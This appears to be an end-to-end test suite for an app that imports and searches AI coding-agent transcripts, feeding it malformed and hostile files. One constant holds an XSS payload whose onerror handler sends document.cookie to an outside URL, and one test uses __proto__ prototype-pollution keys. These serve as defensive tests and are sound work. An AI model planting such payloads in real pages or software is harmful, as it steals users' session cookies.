import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from './fixtures.ts';

const BASE = {
  parentUuid: null as string | null,
  isSidechain: false,
  userType: 'external',
  cwd: '/home/ada/hostile',
  sessionId: '0dd0dd0d-0000-4000-8000-000000000001',
  version: '2.1.98',
  gitBranch: 'main',
};

let uuids = 0;

/** One line of a transcript, with whatever a test wants to have wrong in it. */
function line(content: unknown, fields: Record<string, unknown> = {}): string {
  uuids += 1;
  const uuid = `0dd0dd0d-0000-4000-8000-${String(uuids).padStart(12, '0')}`;
  const timestamp = new Date(Date.UTC(2026, 8, 14, 8, 0, uuids)).toISOString();
  return JSON.stringify({ ...BASE, type: 'user', message: { role: 'user', content }, uuid, timestamp, ...fields });
}

function file(name: string, content: string | Buffer) {
  return { name, mimeType: 'application/octet-stream', buffer: Buffer.from(content) };
}

const GOOD = line('the good sentence stays');

/** Each with a word of what the report has to say about it. */
const CASES: readonly (readonly [what: string, content: string | Buffer, said: RegExp, isKept: boolean])[] = [
  ['an empty file', '', /empty/i, false],
  [
    'bytes that are no text',
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0xff, 0xfe, 0]),
    /not text|binary|NUL/i,
    false,
  ],
  ['JSON of no known format', '{"type":"entry","text":"nothing happened"}\n', /not recognised|no format/i, false],
  [
    'a line that is cut off in the middle',
    `${GOOD}\n{"type":"user","message":{"role":"us`,
    /unfinished|cut off|half|incomplete/i,
    true,
  ],
  ['a line that is no JSON', `${GOOD}\nnot json at all\n${line('after it')}\n`, /not JSON/i, true],
  ['NUL bytes between lines', `${GOOD}\n\0\0\0\0\n${line('after them')}\n`, /NUL/i, true],
  ['a message that is a number', `${GOOD}\n${line(0, { message: 7 })}\n`, /not an object/i, true],
];

for (const [what, content, said, isKept] of CASES) {
  test(`${what}: a sentence says so, and what is good is kept`, async ({ app, page }) => {
    await app.imports.chooseFiles([
      file('case.jsonl', content),
      file('AGENTS.md', '# Kept\n\nThe other file is kept.\n'),
    ]);
    await app.imports.confirm();
    await app.imports.waitForReport();
    const details = app.imports.fileRow('case.jsonl').getByText('Details');
    if ((await details.count()) > 0) await details.click();
    await expect(page.getByRole('main')).toContainText(said);
    await app.search.find('kept');
    await expect(app.search.hit('The other file is kept')).toHaveCount(1);
    await app.search.find('"good sentence"');
    await expect(app.search.hit('the good sentence stays')).toHaveCount(isKept ? 1 : 0);
  });
}

const MARKUP =
  '<img src=x onerror="fetch(\'https://example.org/\'+document.cookie)"><script>globalThis.wasRun = true</script>';

test('markup and script in every field are shown as text', async ({ app, page }) => {
  const hostile = [
    line(`markup ${MARKUP}`, { cwd: `/home/${MARKUP}`, gitBranch: MARKUP }),
    line([{ type: 'tool_result', tool_use_id: 't1', content: MARKUP }]),
    line('', {
      type: 'assistant',
      message: {
        id: 'm1',
        role: 'assistant',
        model: MARKUP,
        content: [
          { type: 'text', text: `markup **bold** [link](javascript:globalThis.wasRun=true) ${MARKUP}` },
          { type: 'tool_use', id: 't1', name: MARKUP, input: { command: MARKUP, file_path: MARKUP } },
        ],
      },
    }),
    JSON.stringify({ type: 'custom-title', customTitle: `title ${MARKUP}`, sessionId: BASE.sessionId }),
  ];
  await app.imports.importFiles([
    file(`${'<b>name</b>'}.jsonl`, `${hostile.join('\n')}\n`),
    file('CLAUDE.md', `---\nname: "${MARKUP}"\n---\n\n# ${MARKUP}\n\n${MARKUP}\n`),
  ]);
  await app.search.find('markup');
  await expect(app.search.hits.first()).toContainText('<img src=x');
  await app.search.openFirstHit();
  await expect(app.session.event('<script>').first()).toBeVisible();
  for (const screen of ['Sessions', 'Memory', 'Timeline', 'Storage'] as const) await app.shell.goTo(screen);
  expect(await page.evaluate(() => 'wasRun' in globalThis)).toBe(false);
});

test('keys that mean something to JavaScript are only keys', async ({ app }) => {
  const lines = [
    `${line('polluted').slice(0, -1)},"__proto__":{"isPolluted":true},"constructor":{"prototype":{"isPolluted":true}}}`,
    line('', {
      type: 'assistant',
      message: {
        id: 'm2',
        role: 'assistant',
        content: [
          { type: 'tool_use', id: 't2', name: 'constructor', input: { toString: 'prototypical' } },
          { type: 'tool_use', id: 't3', name: '__proto__', input: { hasOwnProperty: 'prototypical' } },
        ],
      },
    }),
  ];
  await app.imports.importFiles([file('proto.jsonl', `${lines.join('\n')}\n`)]);
  await app.search.find('prototypical sort:newest');
  await expect(app.search.hits).toHaveCount(2);
  expect(await app.page.evaluate(() => 'isPolluted' in {})).toBe(false);
});

test('lone surrogates and odd characters are kept, shown and found', async ({ app }) => {
  const lines = [
    line('PLACEHOLDER').replace('PLACEHOLDER', 'surrogated x\\udcb2y \\ud83d end'),
    line('bidi \u202e\u200f and \u0007bell and 👩‍👩‍👧 family'),
  ];
  await app.imports.importFiles([file('odd.jsonl', `${lines.join('\n')}\n`)]);
  await app.search.find('surrogated');
  await expect(app.search.hits).toHaveCount(1);
  await app.search.find('family');
  await expect(app.search.hits.first()).toContainText('👩‍👩‍👧');
});

test('parents in a circle end nowhere, and the session can be read', async ({ app }) => {
  const [a, b] = ['0dd0dd0d-0000-4000-8000-00000000000a', '0dd0dd0d-0000-4000-8000-00000000000b'];
  const lines = [
    line('first of the circle', { uuid: a, parentUuid: b }),
    line('second of the circle', { uuid: b, parentUuid: a }),
  ];
  await app.imports.importFiles([file('circle.jsonl', `${lines.join('\n')}\n`)]);
  await app.search.find('circle sort:newest');
  await expect(app.search.hits).toHaveCount(2);
  await app.search.openFirstHit();
  await expect(app.session.event('second of the circle')).toBeVisible();
});

test('any text in the query field gives an answer', async ({ app }) => {
  await app.imports.importFiles([file('good.jsonl', `${GOOD}\n`)]);
  for (const query of [
    '"unclosed',
    '((((',
    'AND OR NOT',
    'a:b:c',
    '-',
    '*',
    'nul\0nul',
    '\ud800',
    'NEAR(',
    '"" OR ""',
  ]) {
    await app.search.find(query);
    await expect(app.search.results.getByRole('alert')).toHaveCount(0);
  }
  await app.search.find('good');
  await expect(app.search.hits).toHaveCount(1);
});

test('a file that changes between review and import is named; the others are kept', async ({ app, page }) => {
  const folder = mkdtempSync(join(tmpdir(), 'strata-changing-'));
  const changing = join(folder, 'changing.jsonl');
  writeFileSync(changing, `${line('before the change')}\n`);
  writeFileSync(join(folder, 'AGENTS.md'), '# Kept\n\nThe other file is kept.\n');
  await app.imports.chooseFiles([changing, join(folder, 'AGENTS.md')]);
  await expect(app.imports.review).toContainText('Claude Code');
  writeFileSync(changing, `${line('after')}\n${line('the change')}\n`);
  await app.imports.confirm();
  await app.imports.waitForReport();
  await expect(app.imports.fileRow('changing.jsonl')).toContainText(/changed|could not be read/i);
  await app.search.find('kept');
  await expect(app.search.hit('The other file is kept')).toHaveCount(1);
  await expect(page.getByRole('main')).not.toContainText('before the change');
  rmSync(folder, { recursive: true });
});

test('a folder that may not be read is answered with what to do', async ({ app, page }) => {
  await app.shell.waitUntilReady();
  await page.evaluate(() => {
    Object.assign(globalThis, {
      showDirectoryPicker: () => Promise.reject(new DOMException('Not allowed.', 'NotAllowedError')),
    });
  });
  await page.getByRole('button', { name: 'Choose folder' }).click();
  await expect(page.getByText('The folder was not opened.')).toContainText('drag the folder here');
});

test('storage that ends midway keeps what is in, and names the rest', async ({ app, page }) => {
  test.slow();
  const { origin } = new URL(app.url);
  const session = await page.context().newCDPSession(page);
  const { usage } = await session.send('Storage.getUsageAndQuota', { origin });
  await session.send('Storage.overrideQuotaForOrigin', { origin, quotaSize: usage + 14_000_000 });
  const words = (seed: number) =>
    Array.from({ length: 150 }, (_, index) => `word${seed}x${(index * 7919 * seed).toString(36)}`).join(' ');
  const lines = Array.from({ length: 4000 }, (_, index) => line(`${index === 0 ? 'firstly ' : ''}${words(index + 1)}`));
  await app.imports.chooseFiles([file('huge.jsonl', `${lines.join('\n')}\n`)]);
  await app.imports.confirm();
  await app.imports.waitForReport();
  await expect(app.imports.report).toContainText(/storage|space|quota/i);
  await expect(app.imports.report).toContainText(/kept/i);
  await session.send('Storage.overrideQuotaForOrigin', { origin });
  await app.search.find('firstly');
  await expect(app.search.hits).toHaveCount(1);
});
